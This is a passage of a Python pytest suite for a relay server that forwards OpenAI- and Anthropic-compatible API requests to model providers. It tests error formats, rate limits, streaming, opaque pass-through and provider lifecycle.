    answer = in_thread(ask, relay, "/v1/chat/completions", body, Idempotency_Key="both")
    hand.reply(hand.next_job(), ["a"], done=True)
    assert answer()[0] == 200
    status, refused, _ = ask(relay, "/v1/completions", body, Idempotency_Key="both")
    assert status == 422 and refused["error"]["code"] == "key_reused"


def test_a_text_completion_has_its_own_form(relay, hand):
    for stream in (False, True):
        answer = in_thread(ask, relay, "/v1/completions", {
            "model": hand.name, "prompt": ["Once"], "stream": stream})
        job = hand.next_job()
        assert job["request"] == {"api": "completions", "prompt": "Once"}
        hand.reply(job, [" upon"], done=True)
        data = answer()[1]
        if stream:
            events, last = events_of(data)
            assert last == "[DONE]"
            assert {e["object"] for e in events} == {"text_completion"}
            assert "".join(e["choices"][0]["text"] for e in events) == " upon"
        else:
            assert data["object"] == "text_completion"
            assert data["choices"][0]["text"] == " upon"


def test_embeddings_pass_through_if_the_provider_has_them(relay, hand):
    body = {"model": hand.name, "input": "x"}
    assert ask(relay, "/v1/embeddings", body)[0] == 404
    hand.session = hand.call("login", embeddings=True)["session"]
    answer = in_thread(ask, relay, "/v1/embeddings", body)
    hand.reply(hand.next_job(), [{"result": {"object": "list", "data": [1],
                                             "model": "/secret/path"}}], done=True)
    assert answer()[1] == {"object": "list", "data": [1], "model": hand.name}


@pytest.mark.parametrize("body, status, code, param", [
    ({}, 400, "invalid_value", "model"),
    ({"model": "nosuch"}, 404, "model_not_found", "model"),
    ({"model": "meta-llama/Llama-3:8b"}, 404, "model_not_found", "model"),
    ({"model": "{}"}, 400, "invalid_value", "messages"),
    ({"model": "{}", "messages": []}, 400, "invalid_value", "messages"),
    ({"model": "{}", "messages": [{"role": "user", "content": "x"}], "n": 0}, 400,
     "invalid_value", "n"),
    ({"model": "{}", "messages": [{"role": "user", "content": "x"}],
      "temperature": -1}, 400, "invalid_value", "temperature"),
    ({"model": "{}", "messages": [{"role": "user", "content": "x"}],
      "max_tokens": 0}, 400, "invalid_value", "max_tokens"),
    (b"{", 400, "invalid_json", None)])
def test_openai_errors_have_openais_form(relay, hand, body, status, code, param):
    if isinstance(body, dict):
        body = json.loads(json.dumps(body).replace("{}", hand.name) if body else "{}")
    got, answer, headers = ask(relay, "/v1/chat/completions", body)
    assert got == status and set(answer) == {"error"}
    assert (answer["error"]["code"], answer["error"]["param"]) == (code, param)
    assert answer["error"]["message"] and answer["error"]["type"]
    assert headers["Access-Control-Allow-Origin"] == "*"


@pytest.mark.parametrize("request_head, status, code, header", [
    (b"GET /v1/chat/completions", 405, "method_not_allowed", b"allow: post"),
    (b"POST /v1/chat/completions HTTP/1.1\r\nContent-Length: 9999999", 413,
     "request_too_large", b"connection: close"),
    (b"POST /v1/chat/completions HTTP/1.1\r\nContent-Encoding: zstd\r\nContent-Length: 2",
     415, "unsupported_encoding", b""),
    (b"GET /v1/nosuch", 404, "unknown_url", b""),
    (b"PUT /chat/completions HTTP/1.1\r\nContent-Length: 0", 405, "method_not_allowed",
     b"allow: post")])
def test_transport_errors_have_openais_form_too(
        relay, request_head, status, code, header):
    if b" HTTP/" not in request_head:
        request_head += b" HTTP/1.1"
    head, _, body = raw(relay, request_head + b"\r\nHost: localhost\r\n\r\n{}").partition(
        b"\r\n\r\n")
    body = body.partition(b"HTTP/1.1 ")[0]              # what {} is taken for
    assert head.split()[1] == b"%d" % status and header in head.lower()
    assert b"\r\nX-Request-Id: " in head
    assert b"\r\nAccess-Control-Allow-Origin: *\r\n" in head
    assert json.loads(body)["error"]["code"] == code


def test_an_offline_service_is_503_with_retry_after_and_not_listed(relay, hand):
    hand.logout()
    status, answer, headers = chat(relay, hand.name)
    assert status == 503 and answer["error"]["code"] == "provider_offline"
    assert headers["Retry-After"]
    listed = [m["id"] for m in ask(relay, "/v1/models")[1]["data"]]
    everything = [m["id"] for m in ask(relay, "/v1/models?all=1")[1]["data"]]
    assert hand.name not in listed and hand.name in everything
    assert ask(relay, "/v1/models/" + hand.name)[1]["status"] == "offline"


def test_no_limit_may_be_said_as_minus_one(relay, hand):
    answer = in_thread(chat, relay, hand.name, max_tokens=-1, max_completion_tokens=-1)
    job = hand.next_job()
    assert set(job["request"]) == {"api", "messages"}
    hand.reply(job, ["x"], done=True)
    assert answer()[0] == 200


def test_an_openai_client_may_wait_for_a_provider(relay, hand):
    hand.logout()
    answer = in_thread(chat, relay, hand.name, wait=True)
    until(lambda: relay.broker.find(hand.name).queue.size)
    hand.connection.close()
    hand.session = hand.call("login")["session"]
    job = hand.next_job()
    assert "wait" not in job["request"]
    hand.reply(job, ["here"], done=True)
    assert answer()[1]["choices"][0]["message"]["content"] == "here"


@pytest.mark.parametrize("path, found", [
    ("/v1/models/{name}", True), ("/models/{name}/", True),
    ("/{name}/v1/models/{name}", True), ("/{name}/v1/models/whatever", True),
    ("/v1/models/no/such", False), ("/v1/models/no%2Fsuch", False),
    ("/nosuch/v1/models/{name}", False)])
def test_a_model_is_found_under_every_base(relay, hand, path, found):
    status, answer, headers = ask(relay, path.format(name=hand.name))
    assert headers["Access-Control-Allow-Origin"] == "*"
    if found:
        assert (status, answer["id"], answer["object"]) == (200, hand.name, "model")
    else:
        assert (status, answer["error"]["code"]) == (404, "model_not_found")


def test_errors_that_a_retry_cannot_help_say_so(relay, hand):
    name = ask(relay, "/api/services", {"name": name_of()})[1]["name"]
    status, _, headers = chat(relay, name)             # never was there
    assert (status, headers["x-should-retry"]) == (503, "false")
    access = ask(relay, "/api/services/%s/keys" % hand.name, {"requests_per_day": 0},
                 Authorization="Bearer " + hand.key)[1]["key"]
    body = {"model": hand.name, "messages": [{"role": "user", "content": "x"}]}
    status, answer, headers = ask(relay, "/v1/chat/completions", body, api_key=access)
    assert (status, answer["error"]["code"]) == (429, "insufficient_quota")
    assert headers["x-should-retry"] == "false"
    access = ask(relay, "/api/services/%s/keys" % hand.name, {"concurrency": 1},
                 Authorization="Bearer " + hand.key)[1]["key"]
    with contextlib.closing(sent(relay, "/v1/chat/completions", body, x_api_key=access)):
        hand.next_job()
        status, _, headers = ask(relay, "/v1/chat/completions", body, x_api_key=access)
        assert status == 429 and headers["x-should-retry"] is None
        assert headers["Retry-After"] == "2"
        assert headers["x-ratelimit-limit-requests"] == "1"
        assert headers["x-ratelimit-remaining-requests"] == "0"
        assert headers["x-ratelimit-reset-requests"] == "2s"
    hand.logout()
    status, _, headers = chat(relay, hand.name)        # may be back at once
    assert (status, headers["x-should-retry"], headers["Retry-After"]) == (503, None, "5")


def test_an_error_in_mid_stream_is_an_event_and_ends_the_body(relay, hand):
    sock = sent(relay, "/v1/chat/completions", {
        "model": hand.name, "stream": True, "messages": [{"role": "user", "content": "x"}]})
    with contextlib.closing(sock):
        job = hand.next_job()
        hand.reply(job, ["a"])
        response = http.client.HTTPResponse(sock)
        response.begin()
        until(lambda: b'"a"' in response.readline())
        hand.reply(job, at=1, error="boom")
        events, _ = events_of(response.read().lstrip(b"\n"))
    assert events[-1]["error"]["code"] == "provider_error"


def test_a_slow_whole_answer_is_kept_alive_by_spaces(relay, hand, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "LATE_HEAD_SECONDS", 0.3)
    sock = sent(relay, "/v1/chat/completions", {
        "model": hand.name, "messages": [{"role": "user", "content": "x"}]})
    with contextlib.closing(sock):
        job = hand.next_job()
        response = http.client.HTTPResponse(sock)
        response.begin()
        assert response.status == 200 and response.read(1) == b" "
        hand.reply(job, ["late"], done=True)
        assert json.loads(response.read())["choices"][0]["message"]["content"] == "late"


def test_the_queue_position_is_a_comment_or_a_field_on_request(relay, hand):
    with contextlib.closing(sent(relay, "/" + hand.name, {"message": "x"})):
        hand.next_job()
        for options, expected in (({}, b": queue 1/1\n"), (
                {"include_queue": True}, b'"queue":{"position":1,')):
            with contextlib.closing(sent(relay, "/v1/chat/completions", {
                    "model": hand.name, "stream": True, "stream_options": options,
                    "messages": [{"role": "user", "content": "x"}]})) as sock:
                response = http.client.HTTPResponse(sock)
                response.begin()
                assert expected in response.readline()
                response.close()
            until(lambda: not relay.broker.find(hand.name).queue.size)


@pytest.mark.parametrize("path", ["/v1/images/generations", "/v1/props", "/v1/nosuch/x"])
def test_unsupported_openai_paths_are_unknown_urls(relay, path):
    status, answer, _ = ask(relay, path, {})
    assert status == 404 and answer["error"]["code"] == "unknown_url"


@pytest.mark.parametrize("path, words", [
    ("/v1/v1/messages", "The path has /v1 twice"), ("/v1/v1/models", "The path has /v1 twice"),
    ("/MYGPT/chat/completions", "Did you mean /MYGPT/v1/chat/completions?"),
    ("/MYGPT/v1/v1/messages", "Did you mean /MYGPT/v1/messages?"),
    ("/MYGPT/nosuch", "There is no /MYGPT/nosuch here.")])
def test_a_base_url_with_v1_too_often_or_not_at_all_is_told(relay, path, words):
    status, answer, _ = ask(relay, path, *[{"model": "MYGPT"}] * (not path.endswith("models")))
    assert status == 404 and words in str(answer), answer


@pytest.fixture
def able(relay):
    """A provider that passes APIs through."""
    hand = Hand(relay, apis=["chat", "completions", "responses", "messages", "count_tokens"],
                workers=4)
    yield hand
    with contextlib.suppress(AssertionError):
        hand.logout()


def test_an_opaque_request_and_its_answer_pass_unchanged(relay, able):
    body = {"model": able.name, "input": "hi", "tools": [{"x": [1, None]}], "n": 1}
    answer = in_thread(ask, relay, "/v1/responses", body)
    job = able.next_job()
    assert job["request"] == {"api": "responses", "opaque": True, "stream": False,
                              "headers": {}, "body": body}
    text = '{"id": "r", "größe": 1.50, "output": []}'
    able.reply(job, [{"result": text}, {"usage": {"completion_tokens": 7}}], done=True)
    status, got, headers = answer()
    assert status == 200 and got == json.loads(text)


def test_an_opaque_stream_passes_event_by_event(relay, able):
    with contextlib.closing(sent(relay, "/v1/messages", {
            "model": able.name, "messages": [], "stream": True, "max_tokens": 5},
            anthropic_version="2023-06-01")) as sock:
        job = able.next_job()
        assert job["request"]["headers"] == {"anthropic-version": "2023-06-01"}
        able.reply(job, [{"event": "event: a\ndata: {}"}])
        able.reply(job, [{"event": "event: message_stop\ndata: {}"}], at=1, done=True)
        response = http.client.HTTPResponse(sock)
        response.begin()
        assert response.read() == b"event: a\ndata: {}\n\nevent: message_stop\ndata: {}\n\n"


def test_behind_the_end_of_an_opaque_stream_comes_nothing_but_the_next_answer(relay, able):
    with contextlib.closing(sent(relay, "/v1/messages", {
            "model": able.name, "messages": [], "stream": True})) as sock:
        job = able.next_job()
        able.reply(job, [{"event": "data: {}"}])
        able.reply(job, at=1, done=True)   # its last piece is empty
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        data = b"".join(iter(lambda: sock.recv(65536), b""))
    first, _, rest = data.partition(b"\r\n0\r\n\r\n")
    assert first.endswith(b"data: {}\n\n") and rest.startswith(b"HTTP/1.1 200 ")


@pytest.mark.parametrize("path, body, words", [
    ("/v1/messages", {"messages": [{}]}, b'"type":"error","error":{"type":'),
    ("/v1/responses", {"input": "x"}, b'event: error\ndata: {"type":"error","code":'),
    ("/v1/chat/completions", {"messages": [{}], "n": 2}, b'data: {"error":{"message":')])
def test_a_failed_opaque_stream_ends_with_an_error_of_its_api(
        relay, able, path, body, words):
    with contextlib.closing(sent(relay, path, dict(
            body, model=able.name, stream=True))) as sock:
        job = able.next_job()
        able.reply(job, [{"event": "data: 1"}])
        response = http.client.HTTPResponse(sock)
        response.begin()
        assert response.readline() == b"data: 1\n"
        able.reply(job, error={"error": "provider_error", "message": "out of memory"}, at=1)
        assert words in response.read()


@pytest.mark.parametrize("body", [
    {"n": 2}, {"logprobs": True}, {"logprobs": 0}, {"prompt": ["a", "b"]}, {"prompt": [1, 2]},
    {"echo": True}, {"best_of": 3}, {"n_probs": 1}, {"prompt_logprobs": 0},
    {"return_token_ids": True}])
def test_requests_beyond_text_are_opaque_or_refused(relay, hand, able, body):
    path = "/v1/completions"
    body = dict({"prompt": "x"}, **body)
    status, answer, _ = ask(relay, path, dict(body, model=hand.name))
    assert status == 404 and "has no /v1/completions with" in answer["error"]["message"]
    answer = in_thread(ask, relay, path, dict(body, model=able.name))
    job = able.next_job()
    assert job["request"]["opaque"] and job["request"]["body"]["prompt"] == body["prompt"]
    able.reply(job, [{"result": "{}"}], done=True)
    assert answer()[0] == 200


@pytest.mark.parametrize("body", [
    {"n": 1}, {"logprobs": False}, {"logprobs": None}, {"n_probs": 0}, {"prompt_logprobs": None}])
def test_requests_for_plain_text_are_not_opaque(relay, hand, body):
    answer = in_thread(ask, relay, "/v1/chat/completions", dict(
        body, model=hand.name, messages=[{"role": "user", "content": "x"}]))
    job = hand.next_job()
    assert "opaque" not in job["request"]
    hand.reply(job, ["x"], done=True)
    assert answer()[0] == 200


def test_an_opaque_answer_to_a_prompt_for_text_is_an_error(relay, hand):
    for item in ({"result": '{"forged": 1}'}, {"event": "data: x"}):
        answer = in_thread(ask, relay, "/v1/chat/completions", {
            "model": hand.name, "messages": [{"role": "user", "content": "x"}]})
        hand.reply(hand.next_job(), [item], done=True)
        assert answer()[0] == 502


def test_every_field_of_length_is_capped_for_a_guest(relay, able):
    guest = manage(relay, able, "POST", "/keys", {"max_new_len": 5})[1]["key"]
    for path, body, field in (
            ("/v1/responses", {"input": "x", "max_output_tokens": 30}, "max_output_tokens"),
            ("/v1/responses", {"input": "x"}, "max_output_tokens"),
            ("/v1/messages", {"messages": [{}], "max_tokens": 30}, "max_tokens"),
            ("/v1/chat/completions", {"messages": [{}], "n": 2, "n_predict": 30},
             "n_predict")):
        answer = in_thread(ask, relay, path, dict(body, model=able.name),
                           Authorization="Bearer " + guest)
        job = able.next_job()
        assert job["request"]["body"][field] == 5
        able.reply(job, [{"result": "{}"}], done=True)
        assert answer()[0] == 200
    answer = in_thread(ask, relay, "/" + able.name, {
        "message": "hi", "options": {"num_predict": 30}}, Authorization="Bearer " + guest)
    job = able.next_job()
    assert job["request"]["options"] == {"num_predict": 5}       # as Ollama calls it
    able.reply(job, ["x"], done=True)
    assert answer()[0] == 200


def test_many_prompts_in_one_request_cost_as_many(relay, able):
    guest = manage(relay, able, "POST", "/keys", {"requests_per_day": 5})[1]["key"]
    key = {"Authorization": "Bearer " + guest}
    body = {"model": able.name, "prompt": ["a", "b"], "n": 2}
    answer = in_thread(ask, relay, "/v1/completions", body, **key)
    able.reply(able.next_job(), [{"result": "{}"}], done=True)
    assert answer()[0] == 200
    assert ask(relay, "/v1/completions", body, **key)[0] == 429


@pytest.mark.parametrize("path, shape", [
    ("/v1/chat/completions", "openai"), ("/v1/messages", "anthropic")])
def test_an_upstreams_error_keeps_status_type_code_and_retry_after(relay, able, path, shape):
    answer = in_thread(ask, relay, path, {"model": able.name, "messages": [
        {"role": "user", "content": "x"}]})
    able.reply(able.next_job(), error={
        "error": "provider_error", "message": "slow down", "status": 429, "type": "rate",
        "code": "slow", "param": "model", "retry_after": 7})
    status, body, headers = answer()
    assert status == 429 and headers["Retry-After"] == "7"
    assert body["error"]["message"] == "slow down" and "x-should-retry" not in headers
    assert body["error"]["type"] == ("rate" if shape == "openai" else "rate_limit_error")
    assert shape == "anthropic" or body["error"]["code"] == "slow"


def test_other_fields_of_a_delta_are_passed_on_streamed_and_whole(relay, hand):
    items = [{"delta": {"refusal": "I "}}, {"delta": {"refusal": "won't", "audio": {"id": 1}}}]
    for stream in (False, True):
        answer = in_thread(ask, relay, "/v1/chat/completions", {
            "model": hand.name, "stream": stream,
            "messages": [{"role": "user", "content": "x"}]})
        hand.reply(hand.next_job(), items, done=True)
        got = answer()[1]
        if stream:
            assert b'"refusal":"I "' in got and b'"audio":{"id":1}' in got
        else:
            message = got["choices"][0]["message"]
            assert message["refusal"] == "I won't" and message["audio"] == {"id": 1}


##############################################################################
# Client and provider
##############################################################################


@pytest.fixture
def provide(relay):
    """Start a provider with a callback; returns (its service's name, the provider)."""
    providers = []

    def start(callback, workers=1, **kw):
        _, answer, _ = ask(relay, "/api/services", {"name": name_of("P")})
        provider = NeuroengineServer(relay.url)
        assert provider.login(answer["name"], answer["key"]) == 0
        thread = threading.Thread(target=provider.listen, args=(callback, workers),
                                  kwargs=kw, daemon=True)
        thread.start()
        providers.append((provider, thread))
        return answer["name"], provider
    yield start
    for provider, thread in providers:
        provider.stop()
        thread.join(SOON)
        assert not thread.is_alive()


def client_of(relay, name, **kw):
    return Neuroengine(service_name=name, server_address=relay.url, **kw)


def test_a_long_response_is_not_copied_for_each_of_its_pieces():
    # As a prompt of 12 MB comes to its provider over a line with small packets: 30 s if
    # each piece copied what came before.
    loop = asyncio.new_event_loop()
    try:
        exchange = neuroengine.Exchange(loop, 60)
        exchange.received(b"HTTP/1.1 200 OK\r\nContent-Length: 12000000\r\n\r\n")
        began = time.process_time()
        for _ in range(12000):
            exchange.received(bytes(1000))
        assert exchange.done.done() and len(exchange.body) == 12000000
        assert time.process_time() - began < 3
    finally:
        loop.close()


@pytest.mark.parametrize("answer, reply", [
    ('{"reply": "This is the LLM"}', "This is the LLM"), ("plain", "plain"),
    ({"reply": "dict"}, "dict"), (["a", "b"], "ab"), ('{"no": "r"}', '{"no": "r"}'),
    ("{broken", "{broken"), ("snow \u2603 \U0001f600", "snow \u2603 \U0001f600"),
    ("\ud83d\ude00 \ud83d", "\U0001f600 \ufffd"), ("", "")])
def test_what_a_callback_returns_is_the_reply(relay, provide, answer, reply):
    name, _ = provide(lambda request: answer)
    assert client_of(relay, name).request("hi") == reply


@pytest.mark.parametrize("answer", [None, 5, b"bytes", {"no": "reply"}, [5],
                                    '{"reply": 5}', {"reply": "no", "errorcode": 3}])
def test_what_is_no_reply_is_an_error_in_words_and_the_provider_serves_on(
        relay, provide, answer):
    answers = [answer, "well"]
    name, _ = provide(lambda request: answers.pop(0))
    api = client_of(relay, name)
    assert "The provider could not answer" in api.request("hi", tries=1)
    assert api.request("hi") == "well"


def test_a_callback_that_raises_is_one_error_and_one_traceback(relay, provide, capfd):
    def answer(request):
        if request["message"] == "bad":
            raise KeyError("private detail")
        return "well"
    name, _ = provide(answer)
    api = client_of(relay, name)
    words = api.request("bad", tries=1)
    assert "KeyError" in words and "private" not in words
    assert api.request("good") == "well"
    assert capfd.readouterr().err.count("Traceback") == 1


def exit_at_once(request):
    sys.exit("bye")


def exit_later(request):
    yield "a"
    sys.exit("bye")


async def exit_in_a_coroutine(request):
    raise KeyboardInterrupt


class Timeout(BaseException):
    """As gevent's."""


def cancelled_within(request):
    async def inner():
        raise asyncio.CancelledError
    asyncio.run(inner())


async def cancelled_in_a_coroutine(request):
    raise asyncio.CancelledError


async def half_an_answer(request):
    yield "half"
    raise {"t": Timeout, "g": GeneratorExit, "c": asyncio.CancelledError}[request["message"]]


class CannotClose:
    def __iter__(self):
        raise Timeout

    @property
    def close(self):
        raise Timeout
    aclose = close


class CannotCloseEither(CannotClose):
    __iter__ = None

    def __aiter__(self):
        raise Timeout


@pytest.mark.parametrize("callback", [
    exit_at_once, exit_later, exit_in_a_coroutine, cancelled_within, cancelled_in_a_coroutine,
    lambda request: CannotClose(), lambda request: CannotCloseEither()])
def test_whatever_a_callback_raises_is_an_error_of_its_client_alone(relay, provide, callback):
    name, _ = provide(lambda request: "ok" if request["message"] == "ok" else callback(request))
    api = client_of(relay, name)
    for _ in range(2):
        assert in_thread(api.request, "x", tries=1)().error == "provider_error"
    assert in_thread(api.request, "ok")() == "ok"


@pytest.mark.parametrize("message", ["t", "g", "c"])
def test_an_answer_that_was_cut_by_any_exception_is_never_a_whole_one(relay, provide, message):
    name, _ = provide(half_an_answer)
    reply = in_thread(client_of(relay, name).request, message, tries=1)()
    assert reply.error == "provider_error"


@pytest.mark.parametrize("answer, words", [
    (None, "returned NoneType"), ([b"x"], "yielded bytes"), ({"reply": 5}, "has no reply"),
    ([{"a": {1}}], "JSON cannot hold")])
def test_what_is_no_answer_is_told_to_the_client_and_in_the_log(
        relay, provide, capfd, answer, words):
    name, _ = provide(lambda request: answer)
    assert words in in_thread(client_of(relay, name).request, "x", tries=1)()
    assert "A prompt was not answered: its" in capfd.readouterr().err


@pytest.mark.parametrize("callback", [
    lambda reply: reply, lambda reply: iter([reply]), lambda reply: {"reply": reply}])
def test_an_error_of_another_service_that_a_callback_passes_on_stays_an_error(
        relay, provide, callback):
    other = client_of(relay, "nosuch")
    name, _ = provide(lambda request: callback(other.request(request["message"])))
    reply = client_of(relay, name).request("hi", tries=1)
    assert reply.error == "provider_error" and "nosuch" in reply


def test_the_callback_gets_all_fields_with_their_defaults(relay, provide):
    got = []
    name, _ = provide(lambda request: got.append(request) or "x")
    client_of(relay, name).request("hi", 0.5, 0.8, 7, 1.1, 99, 3, True, min_p=0.2,
                                   own={"field": 1})
    assert got.pop() == {"message": "hi", "temperature": 0.5, "top_p": 0.8, "top_k": 7,
                         "repetition_penalty": 1.1, "max_new_len": 99, "seed": 3,
                         "raw": "True", "min_p": 0.2, "own": {"field": 1}}
    ask(relay, "/" + name, {"message": "hi"})
    assert got.pop() == dict(neuroengine.SAMPLING, message="hi")


def test_callbacks_may_be_coroutines_and_async_generators(relay, provide):
    import asyncio

    async def whole(request):
        await asyncio.sleep(0)
        return {"reply": "Hello " + request["message"]}

    async def stream(request):
        for text in ("Hello ", "", request["message"]):
            await asyncio.sleep(0)
            yield text

    async def failing(request):
        raise ValueError
    for callback in (whole, stream, functools.partial(whole), lambda request: stream(request)):
        name, _ = provide(callback)
        assert client_of(relay, name).request("you") == "Hello you"
    name, _ = provide(failing)
    assert "ValueError" in client_of(relay, name).request("you", tries=1)


def test_one_event_loop_serves_as_many_coroutines_as_there_are_workers(relay, provide):
    import asyncio
    loops, most, running = set(), [], []

    async def answer(request):
        loops.add(asyncio.get_running_loop())
        running.append(1)
        most.append(len(running))
        while max(most) < 5:               # in which there might, wrongly, come a sixth
            await asyncio.sleep(0.01)
        await asyncio.sleep(0.02)
        running.pop()
        return "x"
    name, _ = provide(answer, workers=5)
    answers = [in_thread(client_of(relay, name).request, "x") for _ in range(15)]
    assert [wait() for wait in answers] == ["x"] * 15
    assert len(loops) == 1 and max(most) == 5


def test_a_coroutine_that_nobody_waits_for_is_cancelled(relay, provide):
    import asyncio
    closed = threading.Event()

    async def answer(request):
        try:
            yield "x"
            await asyncio.sleep(60)
        finally:
            closed.set()
    name, _ = provide(answer)
    stream = client_of(relay, name).stream("x")
    next(stream)
    stream.close()
    assert closed.wait(patient(1))


def test_a_loop_whose_connections_have_no_largest_read_is_good_enough():
    """uvloop's."""
    class Pipe:
        __slots__ = ()
    line, pipe = neuroengine.AsyncConnection(None), Pipe()
    line.connection_made(pipe)
    assert line.transport is pipe


def test_listen_works_where_an_event_loop_runs_already(relay, provide):
    """In Jupyter, say."""
    import asyncio
    name, provider = provide(lambda request: "x")
    provider.stop()
    hand = Hand(relay)
    hand.logout()
    server = NeuroengineServer(relay.url)
    assert server.login(hand.name, hand.key) == 0

    async def cell():
        threading.Timer(0.5, server.stop).start()
        server.listen(lambda request: "x")
    asyncio.run(cell())


def test_stop_before_listen_has_begun_ends_it_at_once(relay):
    """Its thread may be slow to start."""
    hand = Hand(relay)
    hand.logout()
    server = NeuroengineServer(relay.url)
    assert server.login(hand.name, hand.key) == 0
    server.stop()
    in_thread(server.listen, lambda request: "x")()


def test_stop_has_handed_all_jobs_back_when_listen_returns(relay, hand):
    provider = NeuroengineServer(relay.url)
    hand.logout()                          # so that this one gets the prompt
    assert provider.login(hand.name, hand.key) == 0
    session, tokens = provider._session, iter(client_of(relay, hand.name).stream("x"))
    listening = threading.Thread(target=provider.listen, args=(slow_count(10**6),), daemon=True)
    listening.start()
    next(tokens)
    provider.stop()
    listening.join(SOON)
    assert not listening.is_alive() and session not in relay.broker._sessions
    with pytest.raises(NeuroengineError, match="went away in the middle"):
        list(tokens)


def test_listen_can_be_called_again_after_stop(relay):
    hand = Hand(relay)
    hand.logout()
    server = NeuroengineServer(relay.url)
    assert server.login(hand.name, hand.key) == 0
    service = relay.broker.find(hand.name)
    for answer in "once", "twice":
        ended = in_thread(server.listen, lambda request, answer=answer: answer)
        until(lambda: service.idle)
        assert client_of(relay, hand.name).request("x") == answer
        server.stop()
        ended()
    server.stop()
    assert server.login(hand.name, hand.key) == 0
    ended = in_thread(server.listen, lambda request: "after a new login")
    assert client_of(relay, hand.name).request("x") == "after a new login"
    server.stop()
    ended()


@pytest.mark.parametrize("kind", ["threads", "coroutines"])
def test_listen_leaves_no_thread_and_no_descriptor_behind(relay, kind):
    async def answer(request):
        return "x"
    hand = Hand(relay)
    hand.logout()
    server = NeuroengineServer(relay.url)
    assert server.login(hand.name, hand.key) == 0
    workers = neuroengine.Workers(answer if kind == "coroutines" else lambda request: "x")
    server._declare(workers=4)
    run = in_thread(lambda: neuroengine.run_listenings(
        [neuroengine._Listening(server, workers)]) or True)
    assert list(client_of(relay, hand.name).map(["hi"] * 8)) == ["x"] * 8
    server.stop()
    run()
    until(lambda: not any(thread._target in (workers._work, workers._run_loop)
                          for thread in threading.enumerate() if hasattr(thread, "_target")))
    assert kind == "threads" or until(workers._loop.is_closed)


def test_listen_returns_when_what_it_cancelled_was_cleaned_up(relay, monkeypatch):
    """The program may end then, and its threads with it."""
    monkeypatch.setattr(neuroengine, "LEAVE_SECONDS", SOON)
    hand, begun, cleaned = Hand(relay), threading.Event(), []
    hand.logout()

    def answer(request):
        try:
            while True:
                yield "x"
                begun.set()
                time.sleep(0.01)
        finally:
            time.sleep(0.3)
            cleaned.append(1)
    server = NeuroengineServer(relay.url)
    assert server.login(hand.name, hand.key) == 0
    ended = in_thread(lambda: server.listen(answer) or True)
    stream = client_of(relay, hand.name).stream("hi")
    assert "x" in next(stream) and begun.wait(SOON)
    server.stop()
    ended()
    assert cleaned
    with contextlib.suppress(NeuroengineError):
        stream.close()


def test_a_signal_at_the_end_of_listen_finds_no_lock_held(relay, monkeypatch):
    """The handler of listen takes the lock that closing the status takes."""
    handlers, close = [], neuroengine.Status.close
    monkeypatch.setattr(neuroengine.Status, "close", lambda self: handlers.append(
        signal.getsignal(signal.SIGTERM)) or close(self))
    hand = Hand(relay)
    server = NeuroengineServer(relay.url)
    assert server.login(hand.name, hand.key) == 0
    server.stop()
    server.listen(lambda request: "x")
    assert handlers == [signal.getsignal(signal.SIGTERM)]


def test_messages_become_a_prompt_for_a_callback_that_takes_text(relay, provide):
    name, _ = provide(lambda request: request["message"])
    api = client_of(relay, name)
    assert api.request([{"role": "user", "content": "hi"}]) == "hi"
    assert api.request([
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": [{"type": "text", "text": "hi"}]}]) == (
            "System: Be brief.\n\nUser: hi\n\nAssistant:")
    assert api.request([{"role": "user", "content": "Count."},
                        {"role": "assistant", "content": "1, 2,"}]) == (
        "User: Count.\n\nAssistant: 1, 2,")        # to go on with
    assert chat(relay, name)[1]["choices"][0]["message"]["content"] == "hi"
    answer = ask(relay, "/v1/completions", {"model": name, "prompt": "once"})[1]
    assert answer["choices"][0]["text"] == "once"


def test_a_demanded_tool_call_is_not_answered_with_text(relay, provide):
    call = {"tool_calls": [{"index": 0, "id": "c", "function": {"name": "f"}}]}
    body = {"tools": [{"type": "function"}], "tool_choice": "required"}
    name, _ = provide(lambda request: iter(["no"]))
    for stream in (False, True):
        status, answer, _ = chat(relay, name, stream=stream, **body)
        assert (status, answer["error"]["code"]) == (400, "unsupported_parameter")
    assert chat(relay, name, tools=body["tools"])[0] == 200
    name, _ = provide(lambda request: iter([{"reasoning": "hm"}, call]))
    message = chat(relay, name, **body)[1]["choices"][0]["message"]
    assert message["tool_calls"][0]["function"]["name"] == "f"


def count_to(number):
    """A callback that yields numbers."""
    return lambda request: ("%d " % n for n in range(number))


def test_the_seeds_streaming_loop_ends_and_loses_nothing(relay, provide):
    name, _ = provide(count_to(105))
    api, texts, key = client_of(relay, name), [], os.urandom(32).hex()
    while True:
        response = api.request("Hello, write a poem", streamkey=key, max_new_len=1000)
        if response == "":
            break
        texts.append(response)
    assert "".join(texts) == "".join("%d " % n for n in range(105))
    assert len(texts) >= 6
    assert api.request("Hello, write a poem", streamkey=key) == ""


def test_a_streaming_loop_ends_after_an_error(relay, provide):
    def answer(request):
        yield "a"
        raise ValueError
    name, _ = provide(answer)
    api, key = client_of(relay, name), "k" * 32
    texts = [api.request("x", streamkey=key, tries=1) for _ in range(3)]
    assert texts[0] == "a" and "could not answer" in texts[1] and texts[2] == ""
    assert client_of(relay, "nosuch").request("x", streamkey=key).startswith("There is no")


def test_getmodels_lists_the_services(relay, provide):
    name, _ = provide(count_to(1))
    model = next(m for m in client_of(relay, "anything").getModels() if m["name"] == name)
    assert model["connected"] is True and model["queuelen"] == 0


def test_only_what_waits_for_an_answer_waits_for_an_hour(monkeypatch):
    api, waits = Neuroengine("x", "http://127.0.0.1:1"), []
    monkeypatch.setattr(api._transport, "call", lambda *args, timeout, **more:
                        waits.append(timeout) or {"reply": "x"})
    for ask in (api.getModels, lambda: api.send({"command": "getmodels"}),
                lambda: api.send({"message": "hi"}), lambda: api.request("hi")):
        ask()
    assert waits == [neuroengine.REQUEST_SECONDS] * 2 + [neuroengine.ANSWER_SECONDS] * 2


def test_stream_yields_as_the_provider_does(relay, provide):
    go = threading.Event()

    def answer(request):
        yield "a"
        assert go.wait(SOON)
        yield "b"
    name, _ = provide(answer)
    stream = client_of(relay, name).stream("x")
    assert next(stream) == "a"
    go.set()
    assert "".join(stream) == "b"


def endless(closed):
    """A callback that yields for ever, and sets `closed` when its iterator is closed."""
    def answer(request):
        try:
            while True:
                yield "x"
                time.sleep(0.01)
        finally:
            closed.set()
    return answer


def test_closing_the_stream_closes_the_providers_iterator_within_a_second(relay, provide):
    closed = threading.Event()
    name, _ = provide(endless(closed))
    stream = client_of(relay, name).stream("x")
    next(stream)
    stream.close()
    assert closed.wait(patient(1))


